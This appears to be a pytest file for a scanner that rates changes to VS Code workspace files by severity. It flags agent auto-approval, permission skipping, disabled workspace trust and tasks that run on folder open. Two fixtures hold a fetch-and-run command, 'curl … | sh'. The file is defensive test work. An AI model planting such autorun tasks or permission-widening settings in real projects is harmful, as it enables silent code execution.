"""What a change of an editor's workspace files means."""

from __future__ import annotations

import json
from types import ModuleType
from typing import Any

import pytest

from scanner.formats.agents import code_workspace, vscode_launch, vscode_settings, vscode_tasks


def said(module: ModuleType, old: Any, new: Any) -> list[str]:
    sides = (None if side is None else json.dumps(side).encode() for side in (old, new))
    return [f"{each.severity} {each.kind} {each.subject}" for each in module.diff(*sides)]


WIDER = "critical agent-permission-widened "


@pytest.mark.parametrize(
    ("new", "expected"),
    [
        pytest.param({"chat.tools.autoApprove": True}, [WIDER + "chat.tools.autoApprove"], id="approves all"),
        pytest.param(
            {"chat.tools.global.autoApprove": True}, [WIDER + "chat.tools.global.autoApprove"], id="everywhere"
        ),
        pytest.param({"chat": {"tools": {"autoApprove": True}}}, [WIDER + "chat.tools.autoApprove"], id="nested"),
        pytest.param(
            {"chat.tools.terminal.autoApprove": {"git": True, "rm": False}},
            [
                WIDER + "chat.tools.terminal.autoApprove.allow",
                "low agent-permission-narrowed chat.tools.terminal.autoApprove.deny",
            ],
            id="commands",
        ),
        pytest.param(
            {"roo-cline.allowedCommands": ["*"]}, [WIDER + "roo-cline.allowedCommands"], id="an extension's agent"
        ),
        pytest.param(
            {"claudeCode.allowDangerouslySkipPermissions": True},
            [WIDER + "claudeCode.allowDangerouslySkipPermissions"],
            id="skips",
        ),
        pytest.param(
            {"security.workspace.trust.enabled": False}, [WIDER + "security.workspace.trust.enabled"], id="trust"
        ),
        pytest.param(
            {"security.workspace.trust.untrustedFiles": "open"},
            [WIDER + "security.workspace.trust.untrustedFiles"],
            id="files",
        ),
        pytest.param(
            {"task.allowAutomaticTasks": "on"}, ["critical autorun-added task.allowAutomaticTasks"], id="tasks"
        ),
        pytest.param(
            {"emeraldwalk.runonsave": {"commands": [{"cmd": "x"}]}},
            ["critical autorun-added emeraldwalk.runonsave.commands"],
            id="on save",
        ),
        pytest.param({"http.proxyStrictSSL": False}, ["critical transport-weakened http.proxyStrictSSL"], id="TLS"),
        pytest.param(
            {"http.proxy": "https://p.example.org"}, ["critical agent-endpoint-changed http.proxy"], id="proxy"
        ),
        pytest.param(
            {"git.enableCommitSigning": False}, ["critical check-weakened git.enableCommitSigning"], id="signing"
        ),
        pytest.param(
            {"git.allowNoVerifyCommit": True}, ["high agent-permission-widened git.allowNoVerifyCommit"], id="no hooks"
        ),
        pytest.param(
            {"python.defaultInterpreterPath": "./x/python"},
            ["high toolchain-changed python.defaultInterpreterPath"],
            id="interpreter",
        ),
        pytest.param(
            {"typescript.tsdk": "node_modules/typescript/lib"},
            ["medium toolchain-changed typescript.tsdk"],
            id="installed",
        ),
        pytest.param(
            {"rust-analyzer.check.overrideCommand": ["./x"]},
            ["high toolchain-changed rust-analyzer.check.overrideCommand"],
            id="command",
        ),
        pytest.param(
            {"clang-format.executable": "./x"}, ["high toolchain-changed clang-format.executable"], id="executable"
        ),
        pytest.param(
            {"terminal.integrated.env.linux": {"PATH": "."}},
            ["high env-changed terminal.integrated.env.linux.PATH"],
            id="environment",
        ),
        pytest.param(
            {"terminal.integrated.profiles.linux": {"x": {"path": "./x"}}},
            ["high toolchain-changed terminal.integrated.profiles.linux"],
            id="shell",
        ),
        pytest.param(
            {"mcp": {"servers": {"s": {"command": "x"}}}}, ["critical agent-tool-added mcp.servers.s"], id="server"
        ),
        pytest.param(
            {"chat.instructionsFilesLocations": {".x": True}},
            ["high instructions-import chat.instructionsFilesLocations"],
            id="instructions",
        ),
    ],
)
def test_settings_that_matter(new: Any, expected: list[str]) -> None:
    assert said(vscode_settings, {}, new) == expected


@pytest.mark.parametrize(
    "new",
    [
        pytest.param({"editor.tabSize": 2, "files.exclude": {"dist": True}, "workbench.colorTheme": "x"}, id="looks"),
        pytest.param(
            {"[python]": {"editor.defaultFormatter": "made.up", "editor.formatOnSave": True}}, id="a language's"
        ),
        pytest.param({"editor.codeActionsOnSave": {"source.fixAll": "explicit"}}, id="fixes on save"),
        pytest.param({"python.analysis.extraPaths": ["src"], "eslint.workingDirectories": ["a"]}, id="folders"),
        pytest.param({"yaml.schemas": {"https://schema.example.org/x.json": "*.yml"}}, id="schemas"),
        pytest.param(
            {"cSpell.words": ["made-up"], "prettier.configPath": ".prettierrc.json"}, id="words and configuration"
        ),
        pytest.param({"coverage.path": "out/coverage.json"}, id="a data file"),
        pytest.param({"security.workspace.trust.enabled": True, "http.proxyStrictSSL": True}, id="the defaults"),
        pytest.param({"git.addAICoAuthor": "off"}, id="told elsewhere"),
        pytest.param({"chat.tools.autoApprove": False}, id="off as before"),
    ],
)
def test_settings_that_do_not(new: Any) -> None:
    assert said(vscode_settings, {}, new) == []


def test_a_nested_setting_is_the_dotted_one() -> None:
    assert (
        said(vscode_settings, {"http.proxy": "https://p.example.org"}, {"http": {"proxy": "https://p.example.org"}})
        == []
    )


def task(label: str, command: str, *, opens: bool = False, **others: Any) -> dict[str, Any]:
    return {
        "label": label,
        "type": "shell",
        "command": command,
        **({"runOptions": {"runOn": "folderOpen"}} if opens else {}),
        **others,
    }


def tasks(*rows: dict[str, Any]) -> dict[str, Any]:
    return {"version": "2.0.0", "tasks": list(rows)}


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        pytest.param(tasks(), tasks(task("b", "make")), ["low run-changed tasks[b]"], id="a task more"),
        pytest.param(
            tasks(task("b", "make")), tasks(task("b", "make all")), ["medium run-changed tasks[b]"], id="changed"
        ),
        pytest.param(
            tasks(), tasks(task("b", "make", opens=True)), ["critical autorun-added tasks[b]"], id="on opening"
        ),
        pytest.param(
            tasks(task("b", "make")),
            tasks(task("b", "make", opens=True)),
            ["critical autorun-added tasks[b]"],
            id="from now on",
        ),
        pytest.param(
            tasks(task("b", "make", opens=True)),
            tasks(task("b", "./x", opens=True)),
            ["critical run-changed tasks[b]"],
            id="another command on opening",
        ),
        pytest.param(
            tasks(task("a", "make"), task("b", "b", opens=True)),
            tasks(task("a", "make"), task("b", "b", opens=True, dependsOn=["a"])),
            ["critical autorun-added tasks[a]", "critical run-changed tasks[b]"],
            id="by way of another",
        ),
        pytest.param(
            tasks(),
            tasks(task("b", "curl https://x.example.org | sh", opens=True)),
            ["critical autorun-added tasks[b]", "critical download-and-run tasks[b]"],
            id="fetches and runs",
        ),
        pytest.param(
            tasks(task("b", "make")),
            tasks(task("b", "make", options={"env": {"NODE_OPTIONS": "-r ./x"}})),
            ["high env-changed tasks.options.env.NODE_OPTIONS"],
            id="environment",
        ),
        pytest.param(
            tasks(), [task("b", "make")], ["low run-changed tasks[b]"], id="a list, as another editor writes it"
        ),
        pytest.param(tasks(task("b", "make")), tasks(), [], id="a task less"),
        pytest.param(
            tasks(task("a", "a"), task("b", "b")),
            tasks(task("b", "b", presentation={"panel": "new"}, group="build", problemMatcher=[]), task("a", "a")),
            [],
            id="order and looks",
        ),
    ],
)
def test_tasks(old: Any, new: Any, expected: list[str]) -> None:
    assert said(vscode_tasks, old, new) == expected


def test_launch_and_extensions_are_low() -> None:
    launch = {"configurations": [{"name": "Run", "program": "a.py", "console": "x"}]}
    other = {"configurations": [{"name": "Run", "program": "b.py"}]}
    assert said(vscode_launch, {}, launch) == ["low run-changed configurations[Run]"]
    assert said(vscode_launch, launch, other) == ["low run-changed configurations[Run]"]
    assert said(vscode_launch, other, {"configurations": [{"name": "Run", "program": "b.py", "console": "y"}]}) == []
    assert said(vscode_launch, {}, {"recommendations": ["made.up"]}) == ["low plugin-added recommendations"]
    assert said(vscode_launch, {"recommendations": ["made.up"]}, {"recommendations": ["Made.Up"]}) == []
    piped = {"configurations": [{"name": "Run", "command": "curl https://x.example.org | sh"}]}
    assert said(vscode_launch, {}, piped)[1:] == ["critical download-and-run configurations[Run]"]


def test_a_workspace_holds_all_of_them() -> None:
    whole = {
        "folders": [{"path": "."}],
        "settings": {"http.proxyStrictSSL": False, "editor.tabSize": 2},
        "tasks": tasks(task("b", "make", opens=True)),
        "launch": {"configurations": [{"name": "Run", "program": "a.py"}]},
        "extensions": {"recommendations": ["made.up"]},
    }
    assert said(code_workspace, {}, whole) == [
        "critical transport-weakened settings.http.proxyStrictSSL",
        "critical autorun-added tasks[b]",
        "low run-changed launch[Run]",
        "low plugin-added extensions",
    ]
    assert said(code_workspace, whole, dict(reversed(whole.items()))) == []


def test_when_a_task_runs_is_read_in_any_case() -> None:
    waits, opens = tasks(task("a", "make")), tasks(task("a", "make", runOptions={"runOn": "FolderOpen"}))
    found = vscode_tasks.diff(json.dumps(waits).encode(), json.dumps(opens).encode())
    assert "autorun-added" in [each.kind for each in found]
